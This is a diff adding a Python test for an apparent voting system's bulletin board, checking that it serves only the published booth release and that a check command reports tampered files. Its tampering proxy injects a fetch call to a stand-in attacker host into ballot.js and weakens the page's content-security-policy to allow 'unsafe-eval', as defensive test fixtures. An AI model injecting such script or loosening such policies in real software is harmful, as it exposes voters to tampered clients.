@@ -1,0 +1,107 @@
+"""Spec §11.14 on a real board (``verivote board serve`` on 127.0.0.1): the administrator
+publishes the booth release with ``verivote admin booth-release``-equivalent entries, the board
+serves its booth only while it is exactly the release in force (503 and one log line
+otherwise), and ``verivote booth check URL`` says, one line per file, where a served booth
+differs from the published one."""
+
+from __future__ import annotations
+
+import hashlib
+import http.server
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import httpx
+
+from bulletin_board.booth import BoothFiles
+from election.wire import BoothRelease, DefinitionPayload
+from tests.board.server import VERIVOTE, BoardServer
+from tests.election.scenario import DEFINITION, ELECTION, admin
+from tests.serving import serve_handler
+
+
+def _post(board: str, type: str, payload: dict[str, Any]) -> None:
+    answer = httpx.post(
+        f"{board}/v1/elections/{ELECTION}/entries",
+        content=admin(type, payload).raw,
+        headers={"content-type": "application/json"},
+    )
+    assert answer.status_code == 201, answer.text
+
+
+def _check(url: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [VERIVOTE, "booth", "check", url], capture_output=True, text=True, timeout=120, check=False
+    )
+
+
+def _tampering_proxy(board: str) -> type[http.server.BaseHTTPRequestHandler]:
+    """A board in the middle: the log as it is, one booth module changed and the entry page
+    sent with a policy that allows eval."""
+
+    class Proxy(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            answer = httpx.get(board + self.path)
+            body, headers = answer.content, dict(answer.headers)
+            if self.path.endswith("/js/ballot.js"):
+                body += b"\nfetch('https://evil.example/' + 1);\n"
+            if self.path.endswith("/index.html"):
+                headers["content-security-policy"] += "; script-src 'self' 'unsafe-eval'"
+            self.send_response(answer.status_code)
+            for name in ("content-type", "content-security-policy", "x-content-type-options"):
+                if name in headers:
+                    self.send_header(name, headers[name])
+            self.send_header("content-length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+    return Proxy
+
+
+def test_the_board_serves_exactly_the_release_in_force(tmp_path: Path) -> None:
+    db = f"sqlite:///{tmp_path / 'board.db'}"
+    with BoardServer(db, tmp_path / "board.key", create=ELECTION, rules=None) as server:
+        board = server.url
+        url = f"{board}/booth/{ELECTION}/"
+        _post(board, "election-definition", DefinitionPayload(DEFINITION).to_json())
+
+        # No release yet: the booth is served, and there is nothing to check it against.
+        assert httpx.get(url).status_code == 200
+        unpublished = _check(url)
+        assert unpublished.returncode == 2, unpublished.stderr
+        assert "no booth release is published for election" in unpublished.stderr
+
+        installed = BoothFiles.read()
+        _post(board, "booth-release", BoothRelease.of_files(installed.files, version="1").to_json())
+        done = _check(url)
+        assert done.returncode == 0, done.stdout + done.stderr
+        assert done.stdout.startswith(f"OK: the booth served at {url} is booth release 1,")
+
+        with serve_handler(_tampering_proxy(board)) as proxy:
+            tampered = _check(f"{proxy}/booth/{ELECTION}/")
+        assert tampered.returncode == 1
+        lines = tampered.stdout.splitlines()
+        assert "MISMATCH js/ballot.js: the served file differs from the published one" in lines
+        assert "MISMATCH index.html: policy: script-src allows 'unsafe-eval'" in " ".join(lines)
+        assert lines[-1].startswith("the booth served at")
+        assert "is NOT booth release 1" in lines[-1]
+
+        # A later release (last wins) that this board's booth is not: it stops serving it.
+        other = dict(installed.files) | {"js/ballot.js": b"// another booth\n"}
+        _post(board, "booth-release", BoothRelease.of_files(other, version="2").to_json())
+        withheld = httpx.get(url)
+        assert withheld.status_code == 503
+        assert "not the one published for it" in withheld.text
+        assert httpx.get(f"{url}js/group.js").status_code == 503
+        refused = _check(url)
+        assert refused.returncode == 1
+        assert "MISMATCH js/ballot.js: the board answers HTTP 503" in refused.stdout
+    log = server.log.read_text()
+    assert log.count("booth_withheld") == 1
+    assert "js/ballot.js: differs from the published SHA-256" in log
+    digest = hashlib.sha256(installed.files["index.html"]).hexdigest()
+    assert digest not in log
